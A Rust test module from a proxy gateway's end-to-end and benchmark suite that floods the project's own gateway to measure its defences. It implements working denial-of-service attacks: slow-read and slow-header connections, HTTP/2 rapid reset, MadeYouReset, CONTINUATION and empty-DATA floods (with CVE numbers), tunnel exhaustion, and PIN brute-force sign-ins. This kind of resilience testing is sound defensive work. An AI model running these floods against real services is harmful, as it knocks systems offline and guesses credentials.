//! What one hostile terminal does to a gateway: slow, endless or idle connections, and floods of HTTP/2 frames.
//!
//! Driven by `e2e/floods.rs`, which looks at what is refused and what it costs, and by `cargo xtask bench --floods`, which measures
//! somebody else's waits meanwhile. A [`Flood`] is a number of connections that begin again whenever they are ended; it goes
//! on until it is dropped. Slowness is made of pauses here, and nowhere else in the tests.

use std::{
    collections::BTreeMap,
    future::Future,
    sync::{
        Arc, Mutex,
        atomic::{AtomicU64, Ordering::Relaxed},
    },
    time::Duration,
};

use anyhow::{Result, bail};
use bytes::Bytes;
use futures_util::future::BoxFuture;
use http_body_util::Empty;
use hyper::client::conn::http2::SendRequest;
use hyper_util::rt::{TokioExecutor, TokioIo};
use nix::sys::resource::{Resource, getrlimit, setrlimit};
use tokio::{
    io::{AsyncRead, AsyncReadExt, AsyncWrite, AsyncWriteExt},
    net::TcpStream,
    task::JoinSet,
};

use crate::{
    client::{Client, read_answer, within},
    http2_frames::{self as frames, Field},
    internet::{OPEN, READ, TUNNEL},
};

/// A slow peer's pace: a byte now and then, to look alive.
const TRICKLE: Duration = Duration::from_millis(200);
/// Frames of one write: enough to be a flood, few enough to notice an end soon.
const BATCH: usize = 200;
/// Live tunnels that are tried for.
pub const TUNNELS: usize = 10_000;
/// Connections that never say a word.
const MUTE: usize = 2_000;

/// A kind of attack, and how many connections make it.
#[derive(Clone, Copy)]
pub struct Flood {
    pub name: &'static str,
    width: usize,
    connection: fn(Arc<Attack>) -> BoxFuture<'static, Result<()>>,
}

macro_rules! floods {
    ($($name:literal $width:expr, $connection:path;)+) => {
        pub const FLOODS: &[Flood] = &[$(Flood {
            name: $name,
            width: $width,
            connection: |attack| Box::pin(async move { $connection(&attack).await }),
        }),+];
    };
}

floods! {
    "mute connections" MUTE, mute;
    "handshakes" 32, handshakes;
    "slow heads" 96, slow_head;
    "slow bodies" 60, slow_body;
    "slow reads" 60, slow_read;
    "endless headers" 16, endless_head;
    "rapid reset" 8, rapid_reset;
    "rapid reset inside" 8, rapid_reset_inside;
    "made you reset" 8, made_you_reset;
    "CONTINUATION" 8, continuation;
    "empty CONTINUATION" 8, empty_continuation;
    "empty DATA" 8, empty_data;
    "empty DATA inside" 8, empty_data_inside;
    "PING" 8, pings;
    "SETTINGS" 8, settings;
    "new leaves" 8, leaves;
    "idle tunnels" 60, idle_tunnels;
    "requests" 16, requests;
    "refusals" 16, refusals;
    // Last, since nobody signs in at this terminal for a minute after it.
    "sign-ins" 16, sign_ins;
}

pub fn flood(name: &str) -> Option<Flood> {
    FLOODS.iter().copied().find(|flood| flood.name == name)
}

/// Both ends of many connections are descriptors of this process, and the soft limit of old is 1024.
pub fn raise_descriptor_limit() -> Result<()> {
    let (_, most) = getrlimit(Resource::RLIMIT_NOFILE)?;
    Ok(setrlimit(Resource::RLIMIT_NOFILE, most, most)?)
}

/// One attack that runs: who, and what came of it so far.
pub struct Attack {
    client: Client,
    sent: AtomicU64,
    ended: AtomicU64,
    held: AtomicU64,
    told: Mutex<BTreeMap<String, u64>>,
    number: AtomicU64,
}

impl Attack {
    /// By this terminal, which has a session.
    pub fn new(client: Client) -> Arc<Attack> {
        Arc::new(Attack {
            client,
            sent: AtomicU64::default(),
            ended: AtomicU64::default(),
            held: AtomicU64::default(),
            told: Mutex::default(),
            number: AtomicU64::default(),
        })
    }

    /// Frames, heads or connections sent.
    pub fn sent(&self) -> u64 {
        self.sent.load(Relaxed)
    }

    /// Connections that the gateway ended.
    pub fn ended(&self) -> u64 {
        self.ended.load(Relaxed)
    }

    /// Tunnels that are held open.
    pub fn held(&self) -> u64 {
        self.held.load(Relaxed)
    }

    /// How often each reason was told.
    pub fn told(&self) -> BTreeMap<String, u64> {
        self.told.lock().expect("no panic while held").clone()
    }

    fn note(&self, status: u16, reason: Option<&str>) {
        let word = reason.map_or(status.to_string(), str::to_owned);
        *self.told.lock().expect("no panic while held").entry(word).or_default() += 1;
    }

    fn count(&self, frames: usize) {
        self.sent.fetch_add(frames as u64, Relaxed);
    }

    fn next(&self) -> u64 {
        self.number.fetch_add(1, Relaxed)
    }
}

impl Flood {
    /// Attacks until it is dropped.
    pub async fn run(self, attack: Arc<Attack>) {
        let mut connections = JoinSet::new();
        for _ in 0..self.width {
            let attack = attack.clone();
            connections.spawn(async move {
                loop {
                    // How it ended is the gateway's business; an attacker tries again.
                    let _ = (self.connection)(attack.clone()).await;
                    attack.ended.fetch_add(1, Relaxed);
                    tokio::task::yield_now().await;
                }
            });
        }
        while connections.join_next().await.is_some() {}
    }
}

async fn mute(attack: &Attack) -> Result<()> {
    let mut tcp = TcpStream::connect(attack.client.address()).await?;
    attack.count(1);
    tcp.read_u8().await?;
    Ok(())
}

async fn handshakes(attack: &Attack) -> Result<()> {
    attack.client.open(&["http/1.1"]).await?;
    attack.count(1);
    Ok(())
}

async fn slow_head(attack: &Attack) -> Result<()> {
    let mut stream = attack.client.open(&["http/1.1"]).await?;
    stream.write_all(format!("CONNECT {OPEN}:443 HTTP/1.1\r\nHost: ").as_bytes()).await?;
    attack.count(1);
    trickle(attack, stream).await
}

async fn slow_body(attack: &Attack) -> Result<()> {
    let mut stream = attack.client.inspected(OPEN).await?;
    let head = format!("POST /echo HTTP/1.1\r\nHost: {OPEN}\r\nContent-Length: 60000\r\n\r\n");
    stream.write_all(head.as_bytes()).await?;
    attack.count(1);
    trickle(attack, stream).await
}

/// Sends a letter now and then until an answer or the end comes.
async fn trickle(attack: &Attack, mut stream: impl AsyncRead + AsyncWrite + Unpin) -> Result<()> {
    let (mut reader, mut writer) = tokio::io::split(&mut stream);
    let answer = read_answer(&mut reader, false);
    tokio::select! {
        answer = answer => {
            let answer = answer?;
            attack.note(answer.status, answer.reason().as_deref());
        }
        end = async {
            loop {
                tokio::time::sleep(TRICKLE).await;
                writer.write_all(b"a").await?;
            }
        } => return end,
    }
    Ok(())
}

async fn slow_read(attack: &Attack) -> Result<()> {
    let mut stream = attack.client.inspected(READ).await?;
    stream.write_all(format!("GET /flood HTTP/1.1\r\nHost: {READ}\r\n\r\n").as_bytes()).await?;
    attack.count(1);
    // Nothing is read; the end is felt by writing.
    loop {
        tokio::time::sleep(TRICKLE).await;
        stream.write_all(b"G").await?;
    }
}

async fn endless_head(attack: &Attack) -> Result<()> {
    let mut stream = attack.client.open(&["http/1.1"]).await?;
    stream.write_all(format!("CONNECT {OPEN}:443 HTTP/1.1\r\nHost: {OPEN}:443\r\n").as_bytes()).await?;
    let (mut reader, mut writer) = tokio::io::split(&mut stream);
    let field = "X-Champ: 0123456789012345678901234567890123456789\r\n".repeat(BATCH);
    tokio::select! {
        answer = read_answer(&mut reader, false) => {
            let answer = answer?;
            attack.note(answer.status, answer.reason().as_deref());
            Ok(())
        }
        end = async {
            loop {
                writer.write_all(field.as_bytes()).await?;
                attack.count(BATCH);
            }
        } => end,
    }
}

/// Writes what `batch` makes, again and again, until the gateway ends the connection. Its answers are read and dropped.
async fn frames_flood<S: AsyncRead + AsyncWrite + Unpin + Send>(
    attack: &Attack,
    stream: S,
    first: Vec<u8>,
    mut batch: impl FnMut(&mut Vec<u8>),
) -> Result<()> {
    let (mut reader, mut writer) = tokio::io::split(stream);
    writer.write_all(&frames::preface()).await?;
    writer.write_all(&first).await?;
    let write = async {
        let mut bytes = Vec::new();
        loop {
            bytes.clear();
            batch(&mut bytes);
            writer.write_all(&bytes).await?;
            writer.flush().await?;
            attack.count(BATCH);
        }
    };
    let mut sink = tokio::io::sink();
    tokio::select! {
        end = write => end,
        read = tokio::io::copy(&mut reader, &mut sink) => read.map(drop).map_err(Into::into),
    }
}

async fn inner(attack: &Attack) -> Result<impl AsyncRead + AsyncWrite + Unpin + Send + 'static> {
    match attack.client.connect(&format!("{OPEN}:443")).await? {
        Ok(tunnel) => attack.client.inner(tunnel, OPEN, &["h2"]).await,
        Err(answer) => bail!("CONNECT: {answer:?}"),
    }
}

fn connect_head(attack: &Attack) -> Vec<u8> {
    let authority = format!("{OPEN}:443");
    let token = format!("Bearer {}", attack.client.token().unwrap_or_default());
    let fields: [Field<'_>; 3] =
        [(":method", "CONNECT"), (":authority", &authority), ("proxy-authorization", &token)];
    frames::fields(&fields)
}

fn request_head(method: &str, path: &str) -> Vec<u8> {
    frames::fields(&[(":method", method), (":scheme", "https"), (":authority", OPEN), (":path", path)])
}

/// Each stream is begun and reset at once (CVE-2023-44487).
async fn rapid_reset(attack: &Attack) -> Result<()> {
    let stream = attack.client.open(&["h2"]).await?;
    reset(attack, stream, connect_head(attack), frames::END_HEADERS).await
}

async fn rapid_reset_inside(attack: &Attack) -> Result<()> {
    let end = frames::END_HEADERS | frames::END_STREAM;
    reset(attack, inner(attack).await?, request_head("GET", "/"), end).await
}

async fn reset<S: AsyncRead + AsyncWrite + Unpin + Send>(
    attack: &Attack,
    stream: S,
    head: Vec<u8>,
    flags: u8,
) -> Result<()> {
    let mut id = 1;
    frames_flood(attack, stream, Vec::new(), |bytes| {
        for _ in 0..BATCH / 2 {
            frames::headers(bytes, flags, id, &head);
            frames::reset(bytes, id);
            id += 2;
        }
    })
    .await
}

/// Each stream is made wrong, so that the gateway resets it (CVE-2025-8671).
async fn made_you_reset(attack: &Attack) -> Result<()> {
    let (stream, head, mut id) = (inner(attack).await?, request_head("POST", "/echo"), 1);
    frames_flood(attack, stream, Vec::new(), |bytes| {
        for _ in 0..BATCH / 2 {
            frames::headers(bytes, frames::END_HEADERS, id, &head);
            frames::window_update(bytes, id, 0);
            id += 2;
        }
    })
    .await
}

/// A head that never ends, in small pieces (CVE-2024-27983).
async fn continuation(attack: &Attack) -> Result<()> {
    let stream = attack.client.open(&["h2"]).await?;
    let mut first = Vec::new();
    frames::headers(&mut first, 0, 1, &connect_head(attack));
    let field = frames::fields(&[("x-champ", "0123456789")]);
    frames_flood(attack, stream, first, |bytes| {
        for _ in 0..BATCH {
            frames::continuation(bytes, 1, &field);
        }
    })
    .await
}

/// The same in pieces without a byte, which no limit of bytes ends.
async fn empty_continuation(attack: &Attack) -> Result<()> {
    let stream = attack.client.open(&["h2"]).await?;
    let mut first = Vec::new();
    frames::headers(&mut first, 0, 1, &connect_head(attack));
    frames_flood(attack, stream, first, |bytes| {
        (0..BATCH).for_each(|_| frames::continuation(bytes, 1, &[]));
    })
    .await
}

/// DATA without a byte costs no window (CVE-2019-9518).
async fn empty_data(attack: &Attack) -> Result<()> {
    let stream = attack.client.open(&["h2"]).await?;
    empty(attack, stream, connect_head(attack)).await
}

async fn empty_data_inside(attack: &Attack) -> Result<()> {
    empty(attack, inner(attack).await?, request_head("POST", "/echo")).await
}

async fn empty<S: AsyncRead + AsyncWrite + Unpin + Send>(
    attack: &Attack,
    stream: S,
    head: Vec<u8>,
) -> Result<()> {
    let mut first = Vec::new();
    frames::headers(&mut first, frames::END_HEADERS, 1, &head);
    frames_flood(attack, stream, first, |bytes| (0..BATCH).for_each(|_| frames::data(bytes, 1, &[]))).await
}

async fn pings(attack: &Attack) -> Result<()> {
    let stream = attack.client.open(&["h2"]).await?;
    frames_flood(attack, stream, Vec::new(), |bytes| (0..BATCH).for_each(|_| frames::ping(bytes))).await
}

async fn settings(attack: &Attack) -> Result<()> {
    let stream = attack.client.open(&["h2"]).await?;
    frames_flood(attack, stream, Vec::new(), |bytes| (0..BATCH).for_each(|_| frames::settings(bytes))).await
}

type Sender = SendRequest<Empty<Bytes>>;

async fn http2(stream: impl AsyncRead + AsyncWrite + Unpin + Send + 'static) -> Result<Sender> {
    let handshake = hyper::client::conn::http2::handshake(TokioExecutor::new(), TokioIo::new(stream));
    let (sender, connection) = within(handshake).await??;
    tokio::spawn(connection);
    Ok(sender)
}

type Tunnel = TokioIo<hyper::upgrade::Upgraded>;

/// A CONNECT stream, where it is granted; what was told is noted.
async fn tunnel(attack: &Attack, sender: &Sender, host: &str) -> Result<Option<Tunnel>> {
    let mut sender = sender.clone();
    sender.ready().await?;
    let request = http::Request::connect(format!("{host}:443"))
        .header("proxy-authorization", format!("Bearer {}", attack.client.token().unwrap_or_default()))
        .body(Empty::new())?;
    let answer = within(sender.send_request(request)).await??;
    attack.count(1);
    note(attack, &answer);
    Ok(match answer.status().as_u16() {
        200 => Some(TokioIo::new(hyper::upgrade::on(answer).await?)),
        _ => None,
    })
}

fn note<B>(attack: &Attack, answer: &http::Response<B>) {
    let told = answer.headers().get("proxy-status").and_then(|value| value.to_str().ok());
    let reason = told.and_then(passerelle_api::ProxyStatus::parse).map(|status| status.reason);
    attack.note(answer.status().as_u16(), reason.as_deref());
}

/// Ever new hosts of a wildcard, each with a handshake that wants its certificate.
async fn leaves(attack: &Attack) -> Result<()> {
    let sender = http2(attack.client.open(&["h2"]).await?).await?;
    loop {
        let host = format!("n{}.large.example", attack.next());
        if let Some(tunnel) = tunnel(attack, &sender, &host).await? {
            attack.client.inner(tunnel, &host, &["http/1.1"]).await?;
        }
    }
}

/// Tunnels to somebody who never speaks, held for as long as they last.
async fn idle_tunnels(attack: &Attack) -> Result<()> {
    let sender = http2(attack.client.open(&["h2"]).await?).await?;
    let mut held = Vec::new();
    let each = TUNNELS / flood("idle tunnels").map_or(1, |flood| flood.width);
    for _ in 0..each {
        if held.len() + 1 == 100 {
            break; // as many streams as the gateway takes on one connection
        }
        held.extend(tunnel(attack, &sender, TUNNEL).await?);
        attack.held.fetch_max(attack.told().get("200").copied().unwrap_or_default(), Relaxed);
    }
    std::future::pending().await
}

/// Ever new people's PINs.
async fn sign_ins(attack: &Attack) -> Result<()> {
    loop {
        let tried = serde_json::json!({ "person": format!("personne-{}", attack.next()), "pin": "000000" });
        let answer = attack.client.api("POST", "/v1/sessions", Some(tried)).await?;
        attack.count(1);
        attack.note(answer.status, answer.reason().as_deref());
    }
}

/// What is allowed, as fast as it goes: a hundred at once on each connection.
async fn requests(attack: &Attack) -> Result<()> {
    ask_without_end(attack, "/").await
}

/// What is refused, as fast as it goes.
async fn refusals(attack: &Attack) -> Result<()> {
    ask_without_end(attack, "/interdit").await
}

async fn ask_without_end(attack: &Attack, path: &str) -> Result<()> {
    let sender = http2(inner(attack).await?).await?;
    let streams = (0..100).map(|_| {
        let sender = sender.clone();
        async move {
            loop {
                let mut sender = sender.clone();
                sender.ready().await?;
                let request =
                    http::Request::get(format!("https://{OPEN}{path}")).body(Empty::<Bytes>::new())?;
                let answer = within(sender.send_request(request)).await??;
                attack.count(1);
                note(attack, &answer);
                within(http_body_util::BodyExt::collect(answer.into_body())).await??;
            }
        }
    });
    first_error(streams).await
}

async fn first_error(work: impl Iterator<Item = impl Future<Output = Result<()>>>) -> Result<()> {
    futures_util::future::try_join_all(work).await.map(drop)
}
